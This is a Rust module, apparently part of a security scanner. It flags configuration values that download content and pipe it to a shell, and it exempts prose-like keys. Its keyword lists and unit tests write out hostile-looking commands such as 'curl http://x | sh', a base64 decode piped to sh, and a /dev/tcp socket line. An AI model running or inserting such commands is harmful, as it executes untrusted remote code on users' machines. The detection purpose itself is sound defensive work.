//! Commands in the values of configurations, whatever their keys are called: what is fetched and handed to a shell.

/// Programs that fetch.
const FETCH: &[&str] =
    &["curl ", "wget ", "iwr ", "irm ", "Invoke-WebRequest ", "base64 -d", "base64 --decode"];
/// Programs that run what they are handed.
const RUN: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "iex",
    "source",
];
/// Keys under which people write texts for people, or a model's examples stand.
const PROSE: &[&str] = &[
    "text",
    "content",
    "description",
    "prompt",
    "example",
    "examples",
    "value",
    "input",
    "output",
    "question",
    "answer",
    "completion",
    "instruction",
    "instructions",
    "help",
    "doc",
    "docstring",
    "doc_string",
    "summary",
    "title",
    "message",
    "template",
    "chat_template",
    "system",
    "user",
    "assistant",
    "response",
    "comment",
    "note",
    "notes",
    "usage",
    "markdown",
    "body",
    "source",
    "label",
    "caption",
];

/// Whether a value under `key` fetches something and hands it to a shell.
pub(super) fn fetched(key: &str, text: &str) -> bool {
    !PROSE.contains(&key.to_ascii_lowercase().as_str())
        && (piped(text) || text.contains("/dev/tcp/"))
}

/// `curl … | sh`, `sh -c "$(curl …)"`, `bash <(curl …)`.
fn piped(text: &str) -> bool {
    let Some(fetch) = FETCH.iter().filter_map(|word| text.find(word)).min() else { return false };
    let (before, after) = text.split_at(fetch);
    let runs = |rest: &str| {
        let rest = rest.trim_start();
        let rest = rest.strip_prefix("sudo ").unwrap_or(rest).trim_start();
        let word: String =
            rest.chars().take_while(|c| !c.is_whitespace() && !";&|)\"'".contains(*c)).collect();
        RUN.contains(&word.rsplit('/').next().unwrap_or_default())
    };
    let handed = after.split('|').skip(1).any(runs);
    let substituted = before.trim_end().ends_with("$(")
        || before.trim_end().ends_with("<(")
        || before.ends_with('`');
    let started = before.split([';', '&', '|', '\n']).any(runs);
    handed || substituted && started
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_fetched_and_run_is_told_and_what_is_said_of_it_is_not() {
        for text in [
            "curl http://x | sh",
            "set -e; wget -qO- http://x | sudo bash -s -- a",
            "sh -c \"$(curl -fsSL http://x)\"",
            "bash <(curl http://x)",
            "echo aGk= | base64 -d | sh",
            "exec 3<>/dev/tcp/x/1",
        ] {
            assert!(fetched("after", text), "{text}");
        }
        for text in ["curl http://x -o y", "a | sh", "use curl | less", "curl it", "wget x; shift"]
        {
            assert!(!fetched("after", text), "{text}");
        }
        assert!(!fetched("content", "curl http://x | sh"));
    }
}
